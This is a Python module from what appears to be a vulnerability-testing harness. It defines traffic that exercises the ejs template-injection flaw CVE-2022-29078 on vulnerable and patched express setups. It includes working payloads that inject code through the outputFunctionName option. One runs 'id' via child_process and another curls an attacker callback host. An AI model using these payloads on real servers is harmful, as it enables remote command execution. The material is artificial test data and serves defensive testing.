"""ejs, a template engine of npm: what a request sets as an option becomes code."""

from urllib.parse import quote

from .application import Application, Ask, Effect, Release, Side, Visit
from .common import CALLBACK_PORT, COMMAND_OUTPUT, visitors

_OPTION = "settings[view%20options][outputFunctionName]"
_ATTACKER = "203.0.113.70"


def _run(code: str, tries: Effect, target: str = "/") -> Ask:
    return Ask(
        f"{target}?name=x&{_OPTION}={quote(code)}",
        tries=tries,
        holds=COMMAND_OUTPUT if tries is Effect.CONTENT else (),
    )


_ID = "x;return process.mainModule.require('child_process').execSync('id').toString();s"
_CALL = (
    f"x;process.mainModule.require('child_process').exec('curl -s http://{_ATTACKER}:{CALLBACK_PORT}/x');s"
)

EJS = Application(
    name="ejs",
    product="express",
    purl="pkg:npm/express",
    cve="CVE-2022-29078",
    kind="template injection",
    installer="npm",
    sides={
        Release.VULNERABLE: Side(
            "4.21.2", ("express@4.21.2", "ejs@3.1.6", "morgan@1.10.0"), ("pkg:npm/ejs@3.1.6",)
        ),
        Release.PATCHED: Side(
            "4.21.2", ("express@4.21.2", "ejs@3.1.7", "morgan@1.10.0"), ("pkg:npm/ejs@3.1.7",)
        ),
    },
    command=("node", "/srv/program/serve.js", "PORT"),
    visits=(
        *visitors(("/", "/?name=Maria", "/?name=Jo%20Brand", "/about")),
        Visit("203.0.113.69", "runs a command and reads its output", (Ask("/"), _run(_ID, Effect.CONTENT))),
        Visit(_ATTACKER, "lets the server call", (_run(_CALL, Effect.CALLBACK),)),
        Visit(
            "203.0.113.71",
            "asks a page that renders nothing, and sends code that does not compile",
            (
                _run(_ID, Effect.CONTENT, "/about"),
                _run("x;return process.mainModule.require(", Effect.CONTENT),
            ),
        ),
        Visit(
            "203.0.113.69",
            "tries the same on the repaired release",
            (_run(_ID, Effect.CONTENT),),
            Release.PATCHED,
        ),
    ),
)
